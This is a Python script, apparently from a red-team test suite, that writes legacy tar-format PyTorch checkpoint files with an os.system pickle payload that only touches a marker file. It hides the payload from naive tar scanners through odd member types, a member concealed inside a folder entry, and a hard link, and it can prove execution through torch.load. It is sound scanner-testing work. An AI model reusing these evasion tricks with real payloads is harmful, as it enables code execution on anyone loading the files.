"""Legacy (tar) torch.save files whose members tarfile reads differently from a naive tar walk.

Run with Debian's python3 (torch 1.13): python3 make_legacy_tar_fixtures.py [--prove]
--prove loads every file with torch.load and prints whether the payload ran.
Attack payload: os.system('touch /tmp/safeload-redteam-pwned').
"""
import io, os, pickle, struct, sys, tarfile

MARK = '/tmp/safeload-redteam-pwned'
HERE = os.path.dirname(os.path.abspath(__file__))


def evil_pickle():
    cmd = ('touch ' + MARK).encode()
    return b'\x80\x02cos\nsystem\nq\x00X' + struct.pack('<I', len(cmd)) + cmd + b'\x85R.'


BENIGN = pickle.dumps({'epoch': 3}, protocol=2)


def write(path, members):
    with tarfile.open(os.path.join(HERE, path), 'w', format=tarfile.PAX_FORMAT) as tar:
        for name, data, type in [('storages', pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2), tarfile.REGTYPE),
                                 ('tensors', pickle.dumps(0, protocol=2), tarfile.REGTYPE)] + members:
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            ti.type = type
            if type == tarfile.LNKTYPE:
                ti.linkname = 'payload'
            tar.addfile(ti, io.BytesIO(data))


def hidden_member(name, data):
    """A tar header and data for one member, as bytes to hide inside another member's 'data'."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode='w', format=tarfile.PAX_FORMAT) as t:
        ti = tarfile.TarInfo(name)
        ti.size = len(data)
        t.addfile(ti, io.BytesIO(data))
    inner = buf.getvalue().rstrip(b'\0')
    return inner + b'\0' * (-len(inner) % 512)


# tarfile.extractfile returns the data of contiguous ('7') and unknown-type members like regular ones.
write('pickle_contiguous_type.pt', [('pickle', evil_pickle(), tarfile.CONTTYPE)])
write('pickle_contiguous_type_twin.pt', [('pickle', BENIGN, tarfile.CONTTYPE)])
write('pickle_unknown_type.pt', [('pickle', evil_pickle(), b'Z')])
write('pickle_unknown_type_twin.pt', [('pickle', BENIGN, b'Z')])
# tarfile reads no data after a folder whatever its size field says: the next header it reads
# is inside what a size-trusting walk skips; the last member named 'pickle' is the one loaded.
write('pickle_hidden_in_folder.pt', [('pickle', BENIGN, tarfile.REGTYPE),
                                     ('weights', hidden_member('pickle', evil_pickle()), tarfile.DIRTYPE)])
write('pickle_hidden_in_folder_twin.pt', [('pickle', BENIGN, tarfile.REGTYPE),
                                          ('weights', b'', tarfile.DIRTYPE)])
# A link named 'pickle': extractfile follows it to another member.
write('pickle_symlink.pt', [('payload', evil_pickle(), tarfile.REGTYPE), ('pickle', b'', tarfile.LNKTYPE)])

if '--prove' in sys.argv:
    import torch
    for f in sorted(os.listdir(HERE)):
        if f.endswith('.pt'):
            if os.path.exists(MARK):
                os.remove(MARK)
            try:
                r = repr(torch.load(os.path.join(HERE, f)))
            except Exception as e:
                r = type(e).__name__ + ': ' + str(e)
            print(f'{f:36s} payload ran={os.path.exists(MARK)} -> {r[:60]}')
